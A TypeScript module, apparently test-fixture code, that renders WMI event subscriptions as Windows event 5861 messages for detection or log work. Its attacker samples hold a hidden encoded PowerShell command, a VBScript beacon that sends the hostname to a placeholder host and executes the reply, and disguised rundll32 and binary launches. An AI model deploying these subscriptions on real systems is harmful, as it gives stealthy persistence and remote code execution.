// Permanent WMI event subscriptions (filter + consumer) and their MOF rendering in 5861 messages.

/** A value in a MOF instance dump: strings are quoted and escaped, booleans upper case. */
type MofValue = string | number | boolean | { sidBytes: string };

export interface WmiSubscription {
  filterName: string;
  /** EventNamespace of the filter, e.g. `root\cimv2` (printed MOF-escaped as `root\\cimv2`). */
  filterNamespace: string;
  query: string;
  /** The event provider that 5859 names when the filter is activated. */
  eventProvider: string;
  consumerClass: string;
  consumerName: string;
  /** Consumer properties other than CreatorSID and Name, as WMI lists them (alphabetically). */
  consumerProperties: ReadonlyArray<readonly [string, MofValue]>;
  /** True for the built-in SCM subscription: it is created by BUILTIN\Administrators, not a user. */
  builtIn: boolean;
}

/** The binding every Windows machine has: Service Control Manager events to the event log. */
export const SCM_SUBSCRIPTION: WmiSubscription = {
  filterName: 'SCM Event Log Filter',
  filterNamespace: 'root\\cimv2',
  query: 'select * from MSFT_SCMEventLogEvent',
  eventProvider: 'SCM Event Provider',
  consumerClass: 'NTEventLogEventConsumer',
  consumerName: 'SCM Event Log Consumer',
  consumerProperties: [['Category', 0], ['EventType', 1], ['NameOfUserSIDProperty', 'sid'], ['SourceName', 'Service Control Manager']],
  builtIn: true,
};

const UPTIME_QUERY = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200 AND TargetInstance.SystemUpTime < 320";
const BEACON_SCRIPT = [
  'Set http = CreateObject("MSXML2.ServerXMLHTTP")',
  'http.open "GET", "https://cdn-telemetry.example.net/c?h=" & CreateObject("WScript.Network").ComputerName, False',
  'http.send',
  'If http.status = 200 Then Execute http.responseText',
].join('\n');
const CLEANUP_SCRIPT = [
  'var sh = new ActiveXObject("WScript.Shell");',
  'sh.Run("rundll32.exe C:\\\\ProgramData\\\\spool\\\\prnclean.dll,Start", 0, false);',
].join('\n');

/** Persistence an attacker leaves behind: command-line and script consumers. */
export const MALICIOUS_SUBSCRIPTIONS: readonly WmiSubscription[] = [
  {
    filterName: 'WindowsUpdateCheck', filterNamespace: 'root\\cimv2', query: UPTIME_QUERY,
    eventProvider: 'WinMgmt', consumerClass: 'CommandLineEventConsumer', consumerName: 'WindowsUpdateCheck',
    consumerProperties: [
      ['CommandLineTemplate', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
      ['RunInteractively', false],
    ],
    builtIn: false,
  },
  {
    filterName: 'TelemetryTrigger', filterNamespace: 'root\\cimv2', query: "SELECT * FROM __TimerEvent WHERE TimerID = 'TelemetryTimer'",
    eventProvider: 'WinMgmt', consumerClass: 'ActiveScriptEventConsumer', consumerName: 'TelemetryCollector',
    consumerProperties: [['KillTimeout', 45], ['ScriptingEngine', 'VBScript'], ['ScriptText', BEACON_SCRIPT]],
    builtIn: false,
  },
  {
    filterName: 'ExplorerStart', filterNamespace: 'root\\cimv2', query: "select * from Win32_ProcessStartTrace where ProcessName='explorer.exe'",
    eventProvider: 'WMI Kernel Trace Event Provider', consumerClass: 'CommandLineEventConsumer', consumerName: 'SysHealthMonitor',
    consumerProperties: [['CommandLineTemplate', 'C:\\ProgramData\\SysHealth\\healthmon.exe --silent'], ['RunInteractively', false]],
    builtIn: false,
  },
  {
    filterName: 'SpoolerWatch', filterNamespace: 'root\\cimv2', query: "SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_PrintJob'",
    eventProvider: 'WinMgmt', consumerClass: 'ActiveScriptEventConsumer', consumerName: 'PrintSpoolCleanup',
    consumerProperties: [['ScriptingEngine', 'JScript'], ['ScriptText', CLEANUP_SCRIPT]],
    builtIn: false,
  },
];

/** The CreatorSID byte list WMI prints for the BUILTIN\Administrators group. */
export const BUILTIN_ADMINISTRATORS_SID_BYTES = '1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0';

/** A SID such as `S-1-5-21-1-2-3-500` as the binary byte list WMI prints for CreatorSID. */
export function sidBytes(sid: string): string {
  const [, revision, authority, ...subAuthorities] = sid.split('-');
  const bytes = [Number(revision), subAuthorities.length, 0, 0, 0, 0, 0, Number(authority)];
  for (const part of subAuthorities) {
    const value = Number(part);
    bytes.push(value & 0xff, (value >>> 8) & 0xff, (value >>> 16) & 0xff, (value >>> 24) & 0xff);
  }
  return bytes.join(', ');
}

function mofValue(value: MofValue): string {
  if (typeof value === 'boolean') return value ? 'TRUE' : 'FALSE';
  if (typeof value === 'number') return String(value);
  if (typeof value === 'object') return `{${value.sidBytes}}`;
  return `"${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\n/g, '\\n')}"`;
}

function mofInstance(className: string, properties: ReadonlyArray<readonly [string, MofValue]>): string {
  const sorted = [...properties].sort(([a], [b]) => (a < b ? -1 : 1));
  const body = sorted.map(([name, value]) => `\t${name} = ${mofValue(value)};\r\n`).join('');
  return `instance of ${className}\r\n{\r\n${body}};`;
}

/** The `Consumer = ...` value of a 5861 message, e.g. `NTEventLogEventConsumer="SCM Event Log Consumer"`. */
export function consumerLabel(subscription: WmiSubscription): string {
  return `${subscription.consumerClass}="${subscription.consumerName}"`;
}

/** The full 5861 (binding) message, one string with CRLF line breaks and tabs, as Windows renders it. */
export function bindingMessage(subscription: WmiSubscription, creatorSidBytes: string): string {
  const creator = { sidBytes: creatorSidBytes };
  const filter = mofInstance('__EventFilter', [
    ['CreatorSID', creator], ['EventNamespace', subscription.filterNamespace],
    ['Name', subscription.filterName], ['Query', subscription.query], ['QueryLanguage', 'WQL'],
  ]);
  const consumer = mofInstance(subscription.consumerClass, [
    ['CreatorSID', creator], ['Name', subscription.consumerName], ...subscription.consumerProperties,
  ]);
  return `Namespace = //./root/subscription; Eventfilter = ${subscription.filterName} (refer to its activate eventid:5859); `
    + `Consumer = ${consumerLabel(subscription)}; PossibleCause = Binding EventFilter: \r\n${filter}\r\nPerm. Consumer: \r\n${consumer}`;
}
